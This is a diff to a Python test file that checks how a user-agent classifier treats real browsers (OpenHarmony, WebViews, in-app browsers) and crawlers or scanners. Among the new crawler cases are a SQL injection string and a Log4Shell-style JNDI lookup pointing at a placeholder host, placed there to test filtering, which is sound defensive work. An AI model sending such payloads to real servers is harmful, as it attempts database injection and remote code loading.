@@ -15,6 +15,8 @@ from tests import accuracy
 
 IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
 ANDROID = "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0"
+WEB_VIEW = f"{ANDROID.replace('Pixel 8', 'Pixel 8; wv')} Mobile Safari/537.36"
+HARMONY = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36 ArkWeb/4.1.6.1"
 CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
 
 
@@ -26,6 +28,20 @@ def reason(user_agent: str = CHROME, method: str = "GET", **headers: str) -> Rea
     "user_agent",
     [
         CHROME,
+        *(f"Mozilla/5.0 ({device}; OpenHarmony 5.0) {HARMONY}" for device in ("Phone", "Tablet", "PC", "2in1", "Car")),
+        f"Mozilla/5.0 (Phone; OpenHarmony 5.0) {HARMONY} Mobile MicroMessenger/8.0.49(0x28003133) NetType/WIFI",
+        *(
+            f"{WEB_VIEW} {app}"
+            for app in ("CamScanner/6.60.0", "QRScanner/3.2", "Check24/2024", "Grab/5.300 (Android 14)")
+        ),
+        *(
+            f"{IPHONE} Mobile/15E148 {app}"
+            for app in ("CamScanner/6.60", "GeniusScan/7.1", "CHECK24/1", "ParcelTrack/3")
+        ),
+        *(f"{CHROME} {browser}" for browser in ("Atlas/1.0", "Comet/1.0", "Hola/1.210", "Chromium-GOST/140.0")),
+        "Mozilla/5.0 (X11; Haiku x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+        "Mozilla/5.0 (X11; Fuchsia) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0 Safari/537.36 CrKey/1.56",
+        "Mozilla/5.0 (Cloud Phone; Generic) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
         f"{IPHONE} Version/18.5 Mobile/15E148 Safari/604.1",
         "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
         "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.10; rv:39.0) Gecko/20100101 Firefox/39.0",
@@ -190,6 +206,16 @@ def test_link_previews_are_set_aside(user_agent: str) -> None:
         "Mozilla/4.0 (compatible;)",
         "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)",
         "DoCoMo/2.0 N905i(c100;TB;W24H16)",
+        f"Unheard, {CHROME}",
+        f"unheard/1.6.6, {CHROME}",
+        "Mozilla/9.0 (Windows NT 10.0) con_aff/3",
+        CHROME.replace("x64)", "x64; OneTrust;)"),
+        CHROME.replace("x64)", "x64; Rigor)"),
+        "Mozilla/5.0 (X11; Linux x64) AppleWebKit/537.36 (KHTML, like Gecko) HappyDOM/14.3.3",
+        f"{CHROME} ' OR 1=1 --",
+        f"{CHROME}${{jndi:ldap://unheard.example/a}}",
+        f"{WEB_VIEW} Unheardbot/1.0",
+        f"{WEB_VIEW} UnheardScan/1.0 (+http://unheard.example)",
     ],
 )
 def test_crawlers_libraries_and_monitors_are_set_aside(user_agent: str) -> None:
